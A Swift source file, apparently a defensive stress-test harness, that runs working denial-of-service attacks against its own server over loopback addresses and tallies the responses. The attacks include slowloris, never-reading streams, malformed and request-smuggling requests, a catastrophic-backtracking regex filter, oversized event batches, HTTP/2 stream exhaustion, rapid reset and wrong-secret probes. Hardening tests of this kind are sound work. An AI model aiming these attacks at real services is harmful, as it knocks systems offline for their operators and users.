import Foundation
import NIOCore
import NIOPosix
import Synchronization

/// Every attack of issue 40 at once, each bounded and from its own loopback address; what each
/// did and how the server answered.
final class Attacks: Sendable {
    static let descriptions =
        [
            "idle keep-alive (127.0.1.1-127.0.1.40): up to the --idlers connections, each one GET /healthz then silent; "
                + "every held connection below reopens at most 10 a second per address (400/s in all), as do the others",
            "slowloris (127.0.0.12): 200 connections sending half a request line, then nothing, reopened when closed",
            "never-reading SSE (127.0.2.1-127.0.2.20): up to the --silent-streams streams (250 an address), a 4 KB "
                + "receive buffer, never read, reopened when closed",
            "never-reading WebSocket (127.0.0.14): 100 sockets, never read, reopened when closed",
            "malformed (127.0.0.15): 4 loops of unreadable requests (a bad request line, no Host, a 200 KB header, "
                + "10,000 headers, Content-Length with chunked, a NUL in the path, date 2020-13-45)",
            "Keen amplification (127.0.0.16): 2 loops posting 2 MB batches of invalid events and 1 MB batches of {} with "
                + "the web app's public write key",
            "Keen queries (127.0.0.17, another tenant's read key): 2 loops of ^(a+)+$ regex filters over its 50,000 "
                + "events, latest=1e19, limit=1e19, latest=1000000000",
            "HTTP/2 streams (127.0.0.18): 20 h2c connections opening 99 live streams each and a 150-field header block",
            "HTTP/2 rapid reset (127.0.0.21): HEADERS then RST_STREAM, 100 pairs a write every 20 ms, on a new connection "
                + "whenever the server closes one",
            "device probes (127.0.0.19): 4 loops of preferences with a wrong secret, for a real device and unknown ones",
            "NUL property names (127.0.0.20): 2 loops posting events with a NUL in a property name",
        ] + trustDescriptions

    let group: any EventLoopGroup
    let server: SocketAddress
    let http: RawHTTP
    let webProject: String
    let webWriteKey: String
    private let otherProject: String
    private let otherReadKey: String
    private let deviceID: String
    private let idlers: Int
    private let silentStreams: Int
    private let state = Mutex(
        (stopped: false, tallies: [String: [String: Int]](), channels: [ObjectIdentifier: any Channel]()))

    init(
        group: any EventLoopGroup, server: SocketAddress, webProject: String, webWriteKey: String,
        otherProject: String, otherReadKey: String, deviceID: String, idlers: Int, silentStreams: Int
    ) {
        self.group = group
        self.server = server
        http = RawHTTP(group: group, server: server)
        self.webProject = webProject
        self.webWriteKey = webWriteKey
        self.otherProject = otherProject
        self.otherReadKey = otherReadKey
        self.deviceID = deviceID
        self.idlers = idlers
        self.silentStreams = silentStreams
    }

    var stopped: Bool { state.withLock { $0.stopped } }

    func tally(_ attack: String, _ outcome: String, _ count: Int = 1) {
        state.withLock { $0.tallies[attack, default: [:]][outcome, default: 0] += count }
    }

    func stop() {
        let channels = state.withLock { state in
            state.stopped = true
            return Array(state.channels.values)
        }
        for channel in channels { channel.close(promise: nil) }
    }

    var summary: String {
        state.withLock { $0.tallies }.sorted { $0.key < $1.key }.map { attack, outcomes in
            "\(attack) {" + outcomes.sorted { $0.key < $1.key }.map { "\($0.key): \($0.value)" }.joined(separator: ", ")
                + "}"
        }.joined(separator: "; ")
    }

    /// The attacks' names, for `--only`.
    static let names =
        [
            "idle", "slowloris", "silent-sse", "silent-ws", "malformed", "amplify", "queries", "h2-streams", "h2-reset",
            "devices", "nul",
        ] + trustNames

    func run(only: Set<String>) async {
        let on: @Sendable (String) -> Bool = { name in only.isEmpty || only.contains(name) }
        await withTaskGroup(of: Void.self) { group in
            if on("idle") { group.addTask { await self.idle() } }
            if on("slowloris") {
                group.addTask {
                    await self.hold(
                        "slowloris", from: "127.0.0.12", count: 200, request: "GET /heal", receiveBuffer: nil)
                }
            }
            for index in 0..<20 where on("silent-sse") {
                let share = silentStreams / 20 + (index < silentStreams % 20 ? 1 : 0)
                group.addTask {
                    await self.hold(
                        "never-reading SSE", from: "127.0.2.\(index + 1)", count: share,
                        request: "GET /api/stream HTTP/1.1\r\nHost: x\r\nAccept: text/event-stream\r\n\r\n",
                        receiveBuffer: 4096)
                }
            }
            if on("silent-ws") {
                group.addTask {
                    await self.hold(
                        "never-reading WebSocket", from: "127.0.0.14", count: 100,
                        request: "GET /api/ws HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                            + "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n",
                        receiveBuffer: 4096)
                }
            }
            for _ in 0..<4 where on("malformed") { group.addTask { await self.malformed() } }
            for _ in 0..<2 where on("amplify") { group.addTask { await self.amplify() } }
            for index in 0..<2 where on("queries") { group.addTask { await self.queries(index) } }
            if on("h2-streams") { group.addTask { await self.http2Streams() } }
            if on("h2-reset") { group.addTask { await self.http2Resets() } }
            for _ in 0..<4 where on("devices") { group.addTask { await self.deviceProbes() } }
            for _ in 0..<2 where on("nul") { group.addTask { await self.nulNames() } }
            group.addTask { await self.runTrust(on) }
        }
    }

    // MARK: Connections held

    /// Opens a connection from `source`, sends `request`, and keeps it (reading nothing when
    /// `receiveBuffer` is set) until the server closes it; nil when it could not connect.
    func open(
        from source: String, request: String, receiveBuffer: Int?, onClose: @escaping @Sendable () -> Void
    )
        async -> (any Channel)?
    {
        var bootstrap = ClientBootstrap(group: group).connectTimeout(.seconds(5))
        if let receiveBuffer {
            bootstrap = bootstrap.channelOption(.socketOption(.so_rcvbuf), value: SocketOptionValue(receiveBuffer))
                .channelOption(.autoRead, value: false)
        } else {
            bootstrap = bootstrap.channelInitializer { channel in
                channel.eventLoop.makeCompletedFuture { try channel.pipeline.syncOperations.addHandler(Discard()) }
            }
        }
        return await connect(bootstrap, from: source, send: ByteBuffer(string: request), onClose: onClose)
    }

    /// Connects from `source`, keeps the channel (to close at `stop()`) until it closes, then
    /// calls `onClose`, and sends `bytes`; nil when it could not connect or the attacks stopped.
    private func connect(
        _ bootstrap: ClientBootstrap, from source: String, send bytes: ByteBuffer,
        onClose: @escaping @Sendable () -> Void
    ) async -> (any Channel)? {
        guard let source = try? SocketAddress(ipAddress: source, port: 0),
            let channel = try? await bootstrap.bind(to: source).connect(to: server).get()
        else { return nil }
        let id = ObjectIdentifier(channel)
        let kept = state.withLock { state -> Bool in
            guard !state.stopped else { return false }
            state.channels[id] = channel
            return true
        }
        channel.closeFuture.whenComplete { [self] _ in
            state.withLock { _ = $0.channels.removeValue(forKey: id) }
            onClose()
        }
        guard kept else {
            channel.close(promise: nil)
            return nil
        }
        channel.writeAndFlush(bytes, promise: nil)
        return channel
    }

    /// Keeps `count` connections from `source` open, reopening closed ones every 100 ms (at most
    /// `reopenPerSecond` a second once all were opened).
    func hold(
        _ attack: String, from source: String, count: Int, request: String, receiveBuffer: Int?,
        reopenPerSecond: Int = 10
    ) async {
        let open = Counter()
        var first = true
        while !stopped {
            let wanted = first ? count : min(count - open.value, max(1, reopenPerSecond / 10))
            first = false
            for _ in 0..<max(0, wanted) where !stopped {
                open.add(1)
                let channel = await self.open(from: source, request: request, receiveBuffer: receiveBuffer) {
                    [self] in
                    open.add(-1)
                    if !stopped { tally(attack, "closed by the server") }
                }
                if channel == nil {
                    open.add(-1)
                    tally(attack, "refused or failed to connect")
                } else {
                    tally(attack, "opened")
                }
            }
            try? await Task.sleep(for: .milliseconds(100))
        }
    }

    /// Idle keep-alive connections over 40 addresses, up to `idlers`.
    private func idle() async {
        await withTaskGroup(of: Void.self) { group in
            for index in 0..<40 {
                let share = idlers / 40 + (index < idlers % 40 ? 1 : 0)
                group.addTask {
                    await self.hold(
                        "idle keep-alive", from: "127.0.1.\(index + 1)", count: share,
                        request: "GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n", receiveBuffer: nil)
                }
            }
        }
    }

    // MARK: Requests

    private static let malformedRequests: [String] = [
        "GET / HTTP/1.1 extra\r\nHost: x\r\n\r\n",
        "GET /healthz HTTP/1.1\r\nAccept: */*\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: x\r\nX-Big: \(String(repeating: "a", count: 200_000))\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: x\r\n" + (0..<10_000).map { "X-\($0): y\r\n" }.joined() + "\r\n",
        "POST /api/devices HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        "GET /api/ga\u{0}mes HTTP/1.1\r\nHost: x\r\n\r\n",
        "GET /api/scoreboard?date=2020-13-45 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    ]

    private func malformed() async {
        var turn = 0
        while !stopped {
            let request = Self.malformedRequests[turn % Self.malformedRequests.count]
            turn += 1
            let answer = try? await http.exchange(ByteBuffer(string: request), from: "127.0.0.15", timeout: .seconds(5))
            tally("malformed", Self.status(answer))
        }
    }

    private func amplify() async {
        // 2 MB of events that each fail Keen's checks (a property name starting with "$"), and
        // 1 MB of empty events.
        let invalid =
            "["
            + Array(repeating: #"{"$bad":1,"keen":{"timestamp":"not a time"}}"#, count: 46_000)
            .joined(separator: ",") + "]"
        let empty = "[" + Array(repeating: "{}", count: 333_000).joined(separator: ",") + "]"
        var turn = 0
        while !stopped {
            let body = turn % 2 == 0 ? #"{"invalid":\#(invalid)}"# : #"{"empty":\#(empty)}"#
            turn += 1
            let answer = try? await http.request(
                "POST /3.0/projects/\(webProject)/events",
                headers: ["Authorization": webWriteKey, "Content-Type": "application/json"], body: body,
                from: "127.0.0.16", timeout: .seconds(30))
            tally("Keen amplification", answer.map { "\($0.status) (\($0.body.utf8.count / 1024) KB)" } ?? "no answer")
        }
    }

    private func queries(_ index: Int) async {
        let base = "/3.0/projects/\(otherProject)/queries"
        let regex = #"[{"property_name":"s","operator":"regex","property_value":"^(a+)+$"}]"#
            .addingPercentEncoding(withAllowedCharacters: .alphanumerics)!
        let paths = [
            "\(base)/count?event_collection=scan&timeframe=this_14_days&filters=\(regex)&api_key=\(otherReadKey)",
            "\(base)/extraction?event_collection=scan&timeframe=this_14_days&latest=1e19&api_key=\(otherReadKey)",
            "\(base)/extraction?event_collection=scan&timeframe=this_14_days&latest=1000000000&api_key=\(otherReadKey)",
            "\(base)/count?event_collection=scan&timeframe=this_14_days&group_by=s&limit=1e19&api_key=\(otherReadKey)",
        ]
        var turn = index
        while !stopped {
            let path = paths[turn % paths.count]
            turn += 1
            let answer = try? await http.request("GET " + path, from: "127.0.0.17", timeout: .seconds(60))
            tally("Keen queries", answer.map { "\($0.status)" } ?? "no answer")
        }
    }

    private func deviceProbes() async {
        var turn = 0
        while !stopped {
            let id = turn % 2 == 0 ? deviceID : UUID().uuidString.lowercased()
            turn += 1
            let answer = try? await http.request(
                "GET /api/devices/\(id)/preferences", headers: ["Authorization": "Bearer wrong-secret"],
                from: "127.0.0.19")
            tally("device probes", Self.status(answer))
        }
    }

    private func nulNames() async {
        let body = "{\"taps\":[" + Array(repeating: #"{"a\u0000b":1}"#, count: 100).joined(separator: ",") + "]}"
        while !stopped {
            let answer = try? await http.request(
                "POST /3.0/projects/\(webProject)/events",
                headers: ["Authorization": webWriteKey, "Content-Type": "application/json"], body: body,
                from: "127.0.0.20")
            tally("NUL property names", answer.map { "\($0.status)" } ?? "no answer")
        }
    }

    private static func status(_ answer: [UInt8]?) -> String {
        guard let answer else { return "no answer" }
        guard !answer.isEmpty else { return "closed without an answer" }
        let text = String(decoding: answer.prefix(16), as: UTF8.self)
        return text.split(separator: " ").dropFirst().first.map(String.init) ?? "unreadable"
    }

    private static func status(_ answer: (status: Int, body: String)?) -> String {
        answer.map { "\($0.status)" } ?? "no answer"
    }

    // MARK: HTTP/2

    /// h2c connections, each opening 100 live streams (and one header block of 150 fields);
    /// reopened when the server closes them.
    private func http2Streams() async {
        let open = Counter()
        while !stopped {
            for _ in 0..<max(0, 20 - open.value) where !stopped {
                var frames = HTTP2Frames.preface
                // 99 streams and one more: the most the server allows at once (SETTINGS_MAX_CONCURRENT_STREAMS).
                for stream in 0..<99 {
                    frames.writeImmutableBuffer(
                        HTTP2Frames.headers(
                            stream: UInt32(1 + 2 * stream),
                            fields: [
                                (":method", "GET"), (":scheme", "http"), (":authority", "x"), (":path", "/api/stream"),
                                ("accept", "text/event-stream"),
                            ]))
                }
                frames.writeImmutableBuffer(
                    HTTP2Frames.headers(
                        stream: 199,
                        fields: [(":method", "GET"), (":scheme", "http"), (":authority", "x"), (":path", "/healthz")]
                            + (0..<150).map { ("x-\($0)", "y") }))
                open.add(1)
                let connected = await connectHTTP2(from: "127.0.0.18", frames: frames) { [self] frames in
                    tally("HTTP/2 streams", "frames answered", frames)
                } onClose: { [self] in
                    open.add(-1)
                    if !stopped { tally("HTTP/2 streams", "connections closed by the server") }
                }
                if connected == nil {
                    open.add(-1)
                    tally("HTTP/2 streams", "refused or failed to connect")
                } else {
                    tally("HTTP/2 streams", "connections opened")
                }
            }
            try? await Task.sleep(for: .milliseconds(100))
        }
    }

    /// Rapid reset: HEADERS then RST_STREAM, 100 pairs a write, until the server closes the
    /// connection; then again on a new one.
    private func http2Resets() async {
        while !stopped {
            let closed = Counter()
            var frames = HTTP2Frames.preface
            var stream: UInt32 = 1
            func pairs() -> ByteBuffer {
                var buffer = ByteBuffer()
                for _ in 0..<100 {
                    buffer.writeImmutableBuffer(
                        HTTP2Frames.headers(
                            stream: stream,
                            fields: [
                                (":method", "GET"), (":scheme", "http"), (":authority", "x"), (":path", "/api/games"),
                            ]))
                    buffer.writeImmutableBuffer(HTTP2Frames.reset(stream: stream))
                    stream += 2
                }
                return buffer
            }
            frames.writeImmutableBuffer(pairs())
            let connected = await connectHTTP2(from: "127.0.0.21", frames: frames) { _ in
            } onClose: {
                closed.add(1)
            }
            guard let channel = connected else {
                tally("HTTP/2 rapid reset", "refused or failed to connect")
                try? await Task.sleep(for: .milliseconds(100))
                continue
            }
            tally("HTTP/2 rapid reset", "connections opened")
            while !stopped && closed.value == 0 && stream < (1 << 30) {
                try? await channel.writeAndFlush(pairs())
                tally("HTTP/2 rapid reset", "resets sent", 100)
                try? await Task.sleep(for: .milliseconds(20))
            }
            if closed.value > 0 && !stopped { tally("HTTP/2 rapid reset", "connections closed by the server") }
            try? await channel.close()
        }
    }

    /// An h2c connection from `source` that starts with `frames` and answers the server's
    /// SETTINGS and PINGs.
    private func connectHTTP2(
        from source: String, frames: ByteBuffer, answered: @escaping @Sendable (Int) -> Void,
        onClose: @escaping @Sendable () -> Void
    ) async -> (any Channel)? {
        let bootstrap = ClientBootstrap(group: group).connectTimeout(.seconds(5))
            .channelInitializer { channel in
                channel.eventLoop.makeCompletedFuture {
                    try channel.pipeline.syncOperations.addHandler(HTTP2FrameReader(answered: answered))
                }
            }
        return await connect(bootstrap, from: source, send: frames, onClose: onClose)
    }
}
